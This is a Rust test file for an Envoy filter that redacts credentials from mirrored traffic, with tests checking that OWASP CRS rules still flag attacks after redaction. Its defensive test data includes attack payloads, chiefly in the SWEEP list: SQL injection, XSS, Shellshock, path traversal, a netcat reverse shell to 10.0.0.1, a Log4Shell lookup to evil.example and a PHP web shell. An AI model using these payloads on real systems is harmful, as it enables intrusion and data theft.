//! Redaction under the real Envoy: no secret sent by a client or an upstream reaches the node,
//! in any byte of any batch; names and everything else do; markers are the same on every
//! worker when the key comes from the VM environment.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod support;

use support::client::{Proto, Req};
use support::records::{wait_exchange, HeaderValue};
use support::{stats, Rig, EVENTUALLY};

/// Logins sent, each on its own connection, so both workers take some.
const LOGINS: usize = 16;

const SECRETS: [&str; 8] = [
    "eyJhbGciOiJIUzI1NiJ9.c2VjcmV0LXBheWxvYWQ.sig",
    "sess-9f8e7d6c5b4a",
    "hunter2-is-my-password",
    "ak_live_1234567890",
    "qs-token-abcdef-0123",
    "refresh-zyxwvu",
    "form-secret-pw",
    "dXNlcjpwYXNzd29yZA",
];

fn text(v: Option<&HeaderValue>) -> String {
    String::from_utf8_lossy(v.expect("header present").as_bytes()).into_owned()
}

#[test]
fn no_secret_reaches_the_node_and_markers_agree_across_workers() {
    let rig = Rig::start_with(|c| {
        c.concurrency(2)
            .vm_env("OOB_MIRROR_REDACT_KEY", "test-key-from-a-kubernetes-secret")
    });
    let login = format!(
        r#"{{"user":"ann","password":"{}","profile":{{"api_key":"{}","city":"Zürich"}}}}"#,
        SECRETS[2], SECRETS[3]
    );
    let mut ids = Vec::new();
    // The same bearer token on two requests, each on its own connection: whichever worker
    // takes them, the markers match (the key is shared).
    for i in 0..LOGINS {
        let req = Req::post(
            &format!("/upload-sha?access_token={}&page={i}", SECRETS[4]),
            login.clone(),
        )
        .header("content-type", "application/json")
        .header("authorization", format!("Bearer {}", SECRETS[0]))
        .header("cookie", format!("session={}", SECRETS[1]))
        .header("x-request-id", format!("login-{i}"));
        let req = if i % 2 == 1 {
            req.proto(Proto::H2)
        } else {
            req
        };
        assert_eq!(rig.send(&req).status, 200);
        ids.push(format!("login-{i}"));
    }
    let form = Req::post(
        "/upload-sha",
        format!("user=ann&passwd={}&remember=1", SECRETS[6]),
    )
    .header("content-type", "application/x-www-form-urlencoded")
    .header("proxy-authorization", format!("Basic {}", SECRETS[7]))
    .header("x-request-id", "form");
    assert_eq!(rig.send(&form).status, 200);
    ids.push("form".into());

    let mut pairs = Vec::new();
    for id in &ids {
        pairs.push(wait_exchange(&rig.envoy, &rig.node, id, EVENTUALLY));
    }
    // Every record as msgpack again: each string and bin the node received, bodies included.
    // (The upstream route answers a length and a hash: it reflects nothing of the request.)
    let mut raw = Vec::new();
    for r in rig.node.records() {
        rmpv::encode::write_value(&mut raw, &r.raw).unwrap();
    }
    assert!(raw.len() > 1000);
    for secret in SECRETS {
        assert!(
            !raw.windows(secret.len()).any(|w| w == secret.as_bytes()),
            "secret {secret} reached the node"
        );
    }

    let (req0, _) = &pairs[0];
    let auth = text(req0.header("authorization"));
    assert!(auth.starts_with("Bearer redacted:"), "{auth}");
    // Record ids start with a per-VM prefix: the logins went through both workers, and every
    // worker wrote the same marker for the same token.
    let logins = &pairs[..LOGINS];
    let vms: std::collections::HashSet<&str> = logins
        .iter()
        .map(|(r, _)| r.id.rsplit_once('-').unwrap().0)
        .collect();
    assert_eq!(vms.len(), 2, "{vms:?}");
    for (req1, _) in logins {
        assert_eq!(
            auth,
            text(req1.header("authorization")),
            "same token, same marker"
        );
    }
    // Per cookie: the session id is credential-shaped, so a marker; the name stays.
    assert!(text(req0.header("cookie")).starts_with("session=redacted:"));
    assert_eq!(
        text(req0.header("cookie")).len(),
        "session=redacted:".len() + 16
    );
    let path = req0.path.as_deref().unwrap();
    assert!(
        path.starts_with("/upload-sha?access_token=redacted:") && path.ends_with("&page=0"),
        "{path}"
    );
    let body = req0.body_str().unwrap();
    assert!(
        body.starts_with(r#"{"user":"ann","password":"redacted:"#),
        "{body}"
    );
    assert!(
        body.contains(r#""profile":{"api_key":"redacted:"#)
            && body.ends_with(r#","city":"Zürich"}}"#),
        "{body}"
    );
    // The true size stays; the body was captured whole.
    assert_eq!(req0.body_size, login.len() as u64);
    assert!(!req0.body_truncated);
    // Non-secret headers are untouched.
    assert_eq!(text(req0.header("content-type")), "application/json");

    let (form_req, _) = &pairs[LOGINS];
    let form_body = form_req.body_str().unwrap();
    assert!(
        form_body.starts_with("user=ann&passwd=redacted:") && form_body.ends_with("&remember=1"),
        "{form_body}"
    );
    assert!(text(form_req.header("proxy-authorization")).starts_with("Basic redacted:"));

    let st = stats::wait_drained(&rig.envoy, EVENTUALLY);
    st.assert_invariant();
    rig.envoy.assert_no_critical_wasm();
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn unhex(text: &str) -> Vec<u8> {
    (0..text.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&text[i..i + 2], 16).unwrap())
        .collect()
}

/// ext_proc mode: the same secrets, in headers, the `:path` and streamed JSON and form bodies,
/// never reach the ext_proc node (whose recording shows bytes as hex).
#[test]
fn no_secret_reaches_an_ext_proc_node() {
    let recorder = support::extproc::Recorder::start("end");
    let upstream = support::Upstream::start();
    let envoy = support::Envoy::start(
        &support::EnvoyConfig::new(upstream.port(), recorder.port())
            .node_http2()
            .concurrency(1)
            .vm_env("OOB_MIRROR_REDACT_KEY", "k")
            .plugin(r#"{"node":{"cluster":"oob_mirror_node","protocol":"ext_proc"}}"#),
    );
    let client = support::client::Client::new();
    let login = format!(
        r#"{{"user":"ann","password":"{}","api_key":"{}"}}"#,
        SECRETS[2], SECRETS[3]
    );
    // A body sent in several chunks: the redaction is the same across chunk boundaries.
    let chunks: Vec<Vec<u8>> = login.as_bytes().chunks(7).map(<[u8]>::to_vec).collect();
    let reqs = [
        Req::new(
            Proto::H1,
            "POST",
            &format!("/upload-sha?access_token={}", SECRETS[4]),
        )
        .header("content-type", "application/json")
        .header("authorization", format!("Bearer {}", SECRETS[0]))
        .header("cookie", format!("session={}", SECRETS[1]))
        .chunks(chunks),
        Req::post("/upload-sha", format!("user=ann&passwd={}", SECRETS[6]))
            .header("content-type", "application/x-www-form-urlencoded")
            .header("proxy-authorization", format!("Basic {}", SECRETS[7])),
    ];
    for (i, req) in reqs.iter().enumerate() {
        assert_eq!(client.send(envoy.addr(), req).status, 200);
        recorder.wait_ended(i + 1, EVENTUALLY);
    }
    let text = serde_json::to_string(&recorder.streams()).unwrap();
    for secret in SECRETS {
        assert!(!text.contains(secret), "secret {secret} reached the node");
        assert!(
            !text.contains(&hex(secret.as_bytes())),
            "secret {secret} reached the node (hex)"
        );
    }
    let streams = recorder.streams();
    let header = |msg: &serde_json::Value, name: &str| -> Option<String> {
        msg["headers"]
            .as_array()?
            .iter()
            .find(|h| h["key"] == name)
            .map(|h| String::from_utf8(unhex(h["raw_value"].as_str().unwrap())).unwrap())
    };
    let first = &streams[0][0];
    assert!(header(first, "authorization")
        .unwrap()
        .starts_with("Bearer redacted:"));
    assert!(header(first, ":path")
        .unwrap()
        .starts_with("/upload-sha?access_token=redacted:"));
    let body: Vec<u8> = streams[0]
        .iter()
        .filter(|m| m["kind"] == "request_body")
        .flat_map(|m| unhex(m["body"].as_str().unwrap_or("")))
        .collect();
    let body = String::from_utf8(body).unwrap();
    assert!(
        body.starts_with(r#"{"user":"ann","password":"redacted:"#),
        "{body}"
    );
    assert!(
        body.contains(r#","api_key":"redacted:"#) && body.ends_with(r#""}"#),
        "{body}"
    );
    envoy.assert_no_critical_wasm();
}

/// The key the gateway's VM and the node share (one Kubernetes Secret for both).
const SHARED_KEY: &str = "test-key-from-a-kubernetes-secret";

/// The filter's marker and the node's are the same bytes, for the same key and value.
#[test]
fn the_filter_and_the_node_write_the_same_marker() {
    use oob_mirror::config::RedactConfig;
    use oob_mirror::redact::Redactor;
    use oob_mirror_node::redact::Sealer;
    let values: [&[u8]; 5] = [
        b"",
        b"' or 1=1--",
        "Zürich <script>".as_bytes(),
        &[0xff, 0x00, 0xfe],
        &[b'a'; 5000],
    ];
    for key in [&b"k"[..], SHARED_KEY.as_bytes(), &[0xaa; 131]] {
        let filter = Redactor::new(&RedactConfig::default(), key.to_vec()).unwrap();
        let node = Sealer::new(key);
        for value in values {
            assert_eq!(filter.marker(value), node.marker(value));
        }
    }
}

/// A credential-shaped session cookie and bearer token: markers at the gateway in every mode.
const SESSION: &str = "sess-9f8e7d6c5b4a0123";
const JWT: &str = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbm4ifQ.c2lnbmF0dXJlLWJ5dGVz";

/// Attack payloads in values of redacted names: sent to the node in clear, marked.
const COOKIE_SQLI: &str = "1' UNION SELECT password FROM users--";
const COOKIE_XSS: &str = "<script>alert(document.cookie)</script>";
/// Shellshock, which CRS looks for in every request header (932170).
const AUTH_SHELLSHOCK: &str = "() { :; }; /bin/cat /etc/passwd";
/// A Java class, also looked for in every header (944100).
const AUTH_JAVA: &str = "java.lang.Runtime.getRuntime().exec('id')";
const FIELD_SQLI: &str = "1' UNION SELECT secret FROM keys--";
const FORM_XSS: &str = "%3Cscript%3Ealert(1)%3C%2Fscript%3E";
const QUERY_XSS: &str = "%3Cscript%3Ealert(2)%3C%2Fscript%3E";
const PASSWORD_SQLI: &str = "' or '1'='1";

/// Pieces of the payloads above that no rule's own text holds: none may leave the node.
const SHOWN_NEVER: [&str; 7] = [
    "union select",
    "alert(",
    "/bin/cat",
    "getruntime",
    "%3cscript",
    "document.cookie",
    "'1'='1",
];

fn attacks() -> Vec<(&'static str, Req)> {
    let json =
        |path: &str, body: String| Req::post(path, body).header("content-type", "application/json");
    vec![
        (
            "cookie-sqli",
            Req::get("/status/200").header("cookie", format!("session={SESSION}; q={COOKIE_SQLI}")),
        ),
        (
            "cookie-xss",
            Req::get("/status/200")
                .header("cookie", format!("theme={COOKIE_XSS}; session={SESSION}")),
        ),
        (
            "authorization-shellshock",
            Req::get("/status/200").header("authorization", AUTH_SHELLSHOCK),
        ),
        (
            "authorization-java",
            Req::get("/status/200").header("authorization", format!("Bearer {AUTH_JAVA}")),
        ),
        (
            "authorization-jwt",
            Req::get("/status/200").header("authorization", format!("Bearer {JWT}")),
        ),
        (
            "body-field-sqli",
            json(
                "/upload-sha",
                format!(r#"{{"name":"x","token":"{FIELD_SQLI}"}}"#),
            ),
        ),
        (
            "form-field-xss",
            Req::post("/upload-sha", format!("api_key={FORM_XSS}&x=1"))
                .header("content-type", "application/x-www-form-urlencoded"),
        ),
        (
            "query-xss",
            Req::get(&format!("/status/200?access_token={QUERY_XSS}&page=1")),
        ),
        (
            "password-sqli",
            json(
                "/upload-sha",
                format!(r#"{{"user":"admin","password":"{PASSWORD_SQLI}"}}"#),
            ),
        ),
    ]
}

/// What the node made of the attacks sent through Envoy with this `redact` section.
struct Detected {
    /// Rule ids per case.
    rules: Vec<std::collections::BTreeSet<u32>>,
    /// The node's JSON lines.
    lines: Vec<String>,
    /// Its `/attacks` page.
    page: String,
    /// Every record the node received, as msgpack (batches only).
    raw: Vec<u8>,
    /// The values the node was told to redact (batches only).
    marked: Vec<Vec<u8>>,
}

fn detect(protocol: &str, redact: &str) -> Detected {
    use oob_mirror_node::analysis::pool::{Detection, PoolConfig};
    use oob_mirror_node::app::{App, AppConfig};
    use std::sync::{Arc, Mutex};
    // The node reads the same Secret as the gateway (no other test here starts a node).
    std::env::set_var(oob_mirror_node::redact::KEY_ENV, SHARED_KEY);
    let found: Arc<Mutex<Vec<Detection>>> = Arc::default();
    let records: Arc<Mutex<Vec<oob_mirror_node::Record>>> = Arc::default();
    let (f, r) = (Arc::clone(&found), Arc::clone(&records));
    let node = App::start(AppConfig {
        pool: PoolConfig {
            threads: 1,
            ..PoolConfig::default()
        },
        on_detection: Some(Arc::new(move |d: &Detection| {
            f.lock().unwrap().push(d.clone())
        })),
        on_batch: Some(Arc::new(move |b| {
            r.lock().unwrap().extend(b.records.clone())
        })),
        ..AppConfig::new(([127, 0, 0, 1], 0).into())
    })
    .unwrap();
    let upstream = support::Upstream::start();
    let plugin = format!(
        r#"{{"node":{{"cluster":"oob_mirror_node","protocol":"{protocol}"}},"batch":{{"flush_ms":20}},"redact":{redact}}}"#
    );
    let mut config = support::EnvoyConfig::new(upstream.port(), node.addr().port())
        .concurrency(1)
        .vm_env("OOB_MIRROR_REDACT_KEY", SHARED_KEY)
        .plugin(plugin);
    if protocol == "ext_proc" {
        config = config.node_http2();
    }
    let envoy = support::Envoy::start(&config);
    let client = support::client::Client::new();
    let cases = attacks();
    for (name, req) in &cases {
        let req = req.clone().header("x-request-id", *name);
        assert_eq!(client.send(envoy.addr(), &req).status, 200, "{name}");
    }
    let detector = Arc::clone(node.detector());
    let n = cases.len() as u64;
    support::wait::poll_until(EVENTUALLY, || {
        (detector.snapshot().exchanges_analysed >= n).then_some(())
    })
    .expect("every exchange analysed");
    assert_eq!(detector.snapshot().decode_errors, 0);
    let page = client.send(node.addr(), &Req::get("/attacks")).body_str();
    let detections = found.lock().unwrap().clone();
    let rules = cases
        .iter()
        .map(|(name, _)| {
            detections
                .iter()
                .find(|d| d.request_id.as_deref() == Some(*name))
                .map(|d| d.rules.iter().map(|m| m.id).collect())
                .unwrap_or_default()
        })
        .collect();
    let mut raw = Vec::new();
    let mut marked = Vec::new();
    for record in records.lock().unwrap().iter() {
        rmpv::encode::write_value(&mut raw, &record.raw).unwrap();
        marked.extend(record.redact_at_node());
    }
    envoy.assert_no_critical_wasm();
    Detected {
        rules,
        lines: detections
            .iter()
            .map(oob_mirror_node::report::json_line)
            .collect(),
        page,
        raw,
        marked,
    }
}

fn contains(hay: &[u8], needle: &str) -> bool {
    hay.windows(needle.len()).any(|w| w == needle.as_bytes())
}

/// Attacks in cookies, an `authorization` header and redacted body fields and query
/// parameters give the same CRS rules with the default redaction as with none; a password
/// field stays a marker at the gateway (the one detection given up); credential-shaped values
/// never reach the node; and nothing the node shows holds a value it was told to redact.
fn same_detections_with_redaction(protocol: &str) {
    let off = detect(protocol, r#"{"enabled":false}"#);
    let on = detect(protocol, "{}");
    let gateway = detect(protocol, r#"{"mode":"gateway"}"#);
    let names: Vec<&str> = attacks().iter().map(|(n, _)| *n).collect();
    // What `mode: "gateway"` (every value a marker, the old default) gives up.
    for (i, name) in names.iter().enumerate() {
        eprintln!("{protocol} {name}: gateway mode {:?}", gateway.rules[i]);
        if *name != "authorization-jwt" {
            assert_ne!(gateway.rules[i], off.rules[i], "{name}");
        }
    }
    for (i, name) in names.iter().enumerate() {
        eprintln!(
            "{protocol} {name}: off {:?} / default {:?}",
            off.rules[i], on.rules[i]
        );
        match *name {
            "authorization-jwt" => assert!(off.rules[i].is_empty() && on.rules[i].is_empty()),
            "password-sqli" => {
                assert!(off.rules[i].iter().any(|id| id / 1000 == 942), "{name}");
                assert!(!on.rules[i].iter().any(|id| id / 1000 == 942), "{name}");
            }
            _ => {
                assert!(
                    !off.rules[i].is_empty(),
                    "{name}: no rule without redaction"
                );
                assert_eq!(on.rules[i], off.rules[i], "{name}");
            }
        }
    }
    let shown = format!("{}\n{}", on.lines.join("\n"), on.page).to_ascii_lowercase();
    let off_shown = format!("{}\n{}", off.lines.join("\n"), off.page).to_ascii_lowercase();
    for piece in SHOWN_NEVER {
        assert!(
            !shown.contains(piece),
            "{piece} shown by the node:\n{shown}"
        );
        // Without redaction the node shows each: the check above can fail.
        assert!(
            off_shown.contains(piece),
            "{piece} not shown without redaction"
        );
    }
    for secret in [SESSION, JWT] {
        assert!(
            !shown.contains(&secret.to_ascii_lowercase()),
            "{secret} shown"
        );
    }
    // The node's markers are the gateway's: the cookie's SQL injection, sealed by the node,
    // has the marker the filter would have written.
    let filter = oob_mirror::redact::Redactor::new(
        &oob_mirror::config::RedactConfig::default(),
        SHARED_KEY.as_bytes().to_vec(),
    )
    .unwrap();
    let sealed = filter.marker(COOKIE_SQLI.as_bytes());
    assert!(
        on.lines.iter().any(|l| l.contains(&sealed)),
        "{sealed} in {:?}",
        on.lines
    );
    if protocol == "batch" {
        for secret in [SESSION, JWT, "' or '1'='1"] {
            assert!(!contains(&on.raw, secret), "{secret} reached the node");
            assert!(
                contains(&off.raw, secret),
                "{secret} sent without redaction"
            );
        }
        assert!(contains(&on.raw, &filter.marker(SESSION.as_bytes())));
        assert!(contains(&on.raw, &filter.marker(JWT.as_bytes())));
        let marked: Vec<String> = on
            .marked
            .iter()
            .map(|v| String::from_utf8_lossy(v).into_owned())
            .collect();
        // The shellshock value is judged after its first space, as a scheme's credentials.
        let shellshock = AUTH_SHELLSHOCK.split_once(' ').unwrap().1;
        for value in [
            COOKIE_SQLI,
            COOKIE_XSS,
            shellshock,
            AUTH_JAVA,
            FIELD_SQLI,
            FORM_XSS,
            QUERY_XSS,
        ] {
            assert!(
                marked.iter().any(|m| m == value),
                "{value} not marked: {marked:?}"
            );
            assert!(contains(&on.raw, value), "{value} not sent");
        }
        assert!(off.marked.is_empty());
    }
}

#[test]
fn batches_detect_the_same_with_redaction_as_without() {
    same_detections_with_redaction("batch");
}

#[test]
fn ext_proc_streams_detect_the_same_with_redaction_as_without() {
    same_detections_with_redaction("ext_proc");
}

/// Attack payloads of each CRS family, as a login form's password could carry them.
const SWEEP: [&str; 24] = [
    "' or '1'='1",
    "admin'--",
    "' OR 1=1--",
    "1' UNION SELECT username, password FROM users--",
    "1;DROP TABLE users",
    "\" or \"\"=\"",
    "' or sleep(5)#",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "<svg/onload=alert(1)>",
    "../../../../etc/passwd",
    "....//....//etc/passwd",
    ";cat /etc/passwd",
    "$(whoami)",
    "`id`",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "${jndi:ldap://evil.example/a}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "<?php system($_GET['c']); ?>",
    "O:8:\"stdClass\":0:{}",
    "{{7*7}}",
    "http://169.254.169.254/latest/meta-data/",
    "() { :; }; /bin/bash -c id",
];

/// What keeping `password` a marker at the gateway costs: the sweep's payloads in a
/// `password` field and in a `token` field of a JSON login, analysed by the node's CRS as
/// the node receives them with the default redaction, and with none.
#[test]
fn what_keeping_passwords_at_the_gateway_costs() {
    use oob_mirror::config::RedactConfig;
    use oob_mirror::redact::{BodyKind, Redactor};
    use oob_mirror_node::analysis::RulesConfig;
    use oob_mirror_node::pairing::Exchange;
    let redactor = Redactor::new(&RedactConfig::default(), b"k".to_vec()).unwrap();
    // The headers as the client sent them: the length is the original body's.
    let login = |body: Vec<u8>, length: usize| Exchange {
        id: "login".into(),
        source: Some("10.1.2.3:40000".into()),
        destination: Some("10.0.0.1:8080".into()),
        method: "POST".into(),
        authority: Some("api.example.com".into()),
        path: "/login".into(),
        protocol: Some("HTTP/1.1".into()),
        request_headers: vec![
            (b"host".to_vec(), b"api.example.com".to_vec()),
            (b"content-type".to_vec(), b"application/json".to_vec()),
            (b"user-agent".to_vec(), b"curl/8.0".to_vec()),
            (b"accept".to_vec(), b"*/*".to_vec()),
            (b"content-length".to_vec(), length.to_string().into_bytes()),
        ],
        request_body: body,
        ..Exchange::default()
    };
    let mut table = Vec::new();
    for paranoia in [1, 4] {
        let engine = RulesConfig {
            paranoia,
            ..RulesConfig::default()
        }
        .engine()
        .unwrap();
        for field in ["password", "token"] {
            let (mut off, mut on) = (0, 0);
            for payload in SWEEP {
                let body = serde_json::json!({"user": "ann", field: payload}).to_string();
                let redacted = redactor.body(BodyKind::Json, body.as_bytes(), &mut Vec::new());
                let length = body.len();
                // An attack rule (930 to 944): at paranoia 4, 920273 fires on any JSON body.
                let attack = |ex: &Exchange| {
                    engine
                        .analyse(ex)
                        .iter()
                        .any(|m| (930_000..945_000).contains(&m.id))
                };
                off += usize::from(attack(&login(body.into_bytes(), length)));
                on += usize::from(attack(&login(redacted, length)));
            }
            eprintln!("paranoia {paranoia}, {field}: detected {off} of {} without redaction, {on} with the default", SWEEP.len());
            table.push((paranoia, field, off, on));
        }
    }
    // Every payload is an attack the node could see in a password; none is seen there with
    // the default, all are in a `token` field (not credential-shaped: sent to the node).
    assert_eq!(
        table,
        [
            (1, "password", 22, 0),
            (1, "token", 22, 22),
            (4, "password", 24, 0),
            (4, "token", 24, 24)
        ]
    );
}
